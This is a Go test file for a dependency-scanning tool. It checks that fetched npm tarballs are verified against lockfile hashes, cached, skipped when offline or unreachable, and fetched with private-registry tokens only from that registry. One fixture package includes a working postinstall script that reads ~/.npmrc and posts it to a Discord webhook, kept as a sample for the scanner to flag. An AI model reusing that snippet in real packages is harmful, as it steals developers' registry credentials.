package content

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha512"
	"encoding/base64"
	"net/http"
	"net/http/httptest"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tollgate-dev/tollgate/lockfiles"
	"github.com/tollgate-dev/tollgate/registry"
	"github.com/tollgate-dev/tollgate/scanner"
)

func npmTarball(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for name, body := range files {
		if err := tw.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

func sri(data []byte) string {
	sum := sha512.Sum512(data)
	return "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
}

// An npm registry serving a clean 1.0.0 and a 1.0.1 whose new postinstall
// reads ~/.npmrc and posts it to a Discord webhook, and a tarball that is
// not what its lockfile locked.
func TestPackagesFetchVerifyAnalyse(t *testing.T) {
	clean := npmTarball(t, map[string]string{"package.json": `{"name":"chalkish","version":"1.0.0"}`, "index.js": "module.exports = 1\n"})
	evil := npmTarball(t, map[string]string{
		"package.json": `{"name":"chalkish","version":"1.0.1","scripts":{"postinstall":"node setup.js"}}`,
		"index.js":     "module.exports = 1\n",
		"setup.js":     "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc')\nrequire('https').request('https://discord.com/api/webhooks/1/x', {method: 'POST'}).end(t)\n",
	})
	other := npmTarball(t, map[string]string{"package.json": `{"name":"left-pad","version":"1.3.0"}`})
	served := map[string][]byte{
		"/chalkish/-/chalkish-1.0.0.tgz": clean,
		"/chalkish/-/chalkish-1.0.1.tgz": evil,
		"/left-pad/-/left-pad-1.3.0.tgz": npmTarball(t, map[string]string{"package.json": `{"name":"left-pad","version":"1.3.0","tampered":true}`}),
	}
	var mu sync.Mutex // the handler's goroutines and the test share calls and served
	var calls int
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		calls++
		data, ok := served[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Write(data)
	}))
	defer srv.Close()
	cache := t.TempDir()
	c := New(Options{HTTPClient: srv.Client(), NPMRegistry: srv.URL, CacheDir: cache, MinBackoff: time.Millisecond})
	npm := func(name, version string, data []byte, line int) lockfiles.Package {
		return lockfiles.Package{Ecosystem: lockfiles.EcosystemNPM, Name: name, Version: version, Path: "package-lock.json", Line: line,
			Integrity: sri(data), PURL: lockfiles.PURL(lockfiles.EcosystemNPM, name, version, nil)}
	}
	prev := npm("chalkish", "1.0.0", clean, 10)
	in := &scanner.Input{Mode: scanner.ModePullRequest, Changes: []lockfiles.Change{
		{Kind: lockfiles.ChangeUpdated, Package: npm("chalkish", "1.0.1", evil, 10), Previous: &prev},
		{Kind: lockfiles.ChangeAdded, Package: npm("left-pad", "1.3.0", other, 20)}, // locked hash of another tarball
		{Kind: lockfiles.ChangeAdded, Package: lockfiles.Package{Ecosystem: lockfiles.EcosystemPub, Name: "http", Version: "1.2.0"}},
	}}
	got, skipped := c.packages(t.Context(), in)
	var lines []string
	for _, f := range got {
		lines = append(lines, f.RuleID+" "+f.Severity+" "+f.Package)
	}
	sort.Strings(lines)
	want := "artifact-integrity-mismatch critical pkg:npm/left-pad@1.3.0|install-script-capability critical pkg:npm/chalkish@1.0.1"
	if strings.Join(lines, "|") != want {
		t.Errorf("findings %q, want %q", strings.Join(lines, "|"), want)
	}
	for _, f := range got {
		if f.RuleID == "install-script-capability" && !strings.Contains(f.Message, `(updated from 1.0.0) adds a postinstall script ("node setup.js") that`) {
			t.Errorf("message %q", f.Message)
		}
	}
	if len(skipped) != 1 || !skipped[0].ByChoice || !strings.Contains(skipped[0].Reason, "Pub 1") {
		t.Errorf("skipped %+v", skipped)
	}
	// Verified artifacts come from the cache the second time.
	mu.Lock()
	before := calls
	mu.Unlock()
	c.packages(t.Context(), in)
	mu.Lock()
	again := calls - before
	mu.Unlock()
	if again != 1 { // only the mismatching tarball is fetched again
		t.Errorf("%d downloads on the second run, want 1", again)
	}
	// Offline: listed, not fetched.
	in.Offline = true
	got, skipped = c.packages(t.Context(), in)
	if len(got) != 0 || len(skipped) != 2 || !strings.Contains(skipped[1].Reason, "offline") {
		t.Errorf("offline: %v %+v", got, skipped)
	}
	// A registry that cannot answer is a skipped entry, not a pass.
	in.Offline = false
	mu.Lock()
	served = map[string][]byte{}
	mu.Unlock()
	c = New(Options{HTTPClient: srv.Client(), NPMRegistry: srv.URL, MinBackoff: time.Millisecond})
	got, skipped = c.packages(t.Context(), in)
	if len(got) != 0 || len(skipped) != 2 || skipped[1].ByChoice || !strings.Contains(skipped[1].Reason, "HTTP 404") {
		t.Errorf("unreachable: %v %+v", got, skipped)
	}
}

func TestExpectedIntegrity(t *testing.T) {
	for _, tt := range []struct{ in, alg string }{
		{"sha512-" + base64.StdEncoding.EncodeToString(make([]byte, 64)), "sha512"},
		{"sha1-" + base64.StdEncoding.EncodeToString(make([]byte, 20)) + " sha512-" + base64.StdEncoding.EncodeToString(make([]byte, 64)), "sha512"},
		{strings.Repeat("ab", 20), "sha1"},
		{"", ""},
		{"md5-xyz", ""},
	} {
		alg, _, ok := expected(tt.in)
		if alg != tt.alg || ok != (tt.alg != "") {
			t.Errorf("expected(%q) = %q %v, want %q", tt.in, alg, ok, tt.alg)
		}
	}
}

// A private registry's token (config registry-auth) goes with downloads
// from that registry's origin, and not with a tarball the lockfile locates
// on another host.
func TestDownloadCredentialsOnlyToTheirRegistry(t *testing.T) {
	tarball := npmTarball(t, map[string]string{"package.json": `{"name":"@acme/ui","version":"2.0.0"}`})
	var mu sync.Mutex
	seen := map[string]string{}
	handler := func(name string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			seen[name] = r.Header.Get("Authorization")
			mu.Unlock()
			if r.Header.Get("Authorization") != "Bearer npm_private" && name == "private" {
				http.Error(w, "auth required", http.StatusUnauthorized)
				return
			}
			w.Write(tarball)
		}
	}
	private := httptest.NewServer(handler("private"))
	defer private.Close()
	elsewhere := httptest.NewServer(handler("elsewhere"))
	defer elsewhere.Close()
	c := New(Options{HTTPClient: private.Client(), Bases: map[string]string{"npm": private.URL + "/api/npm/"},
		Credentials: map[string]registry.Credentials{"npm": {Token: "npm_private"}}, MinBackoff: time.Millisecond})
	pkg := func(name, resolved string) lockfiles.Package {
		return lockfiles.Package{Ecosystem: lockfiles.EcosystemNPM, Name: name, Version: "2.0.0", Path: "package-lock.json", Line: 5,
			Resolved: resolved, Integrity: sri(tarball), PURL: lockfiles.PURL(lockfiles.EcosystemNPM, name, "2.0.0", nil)}
	}
	in := &scanner.Input{Mode: scanner.ModePullRequest, Changes: []lockfiles.Change{
		{Kind: lockfiles.ChangeAdded, Package: pkg("@acme/ui", "")},
		{Kind: lockfiles.ChangeAdded, Package: pkg("left-pad", elsewhere.URL+"/left-pad/-/left-pad-2.0.0.tgz")},
	}}
	got, skipped := c.packages(t.Context(), in)
	if len(got) != 0 || len(skipped) != 0 {
		t.Errorf("findings %v, skipped %+v", got, skipped)
	}
	if seen["private"] != "Bearer npm_private" || seen["elsewhere"] != "" {
		t.Errorf("Authorization seen %q", seen)
	}
}
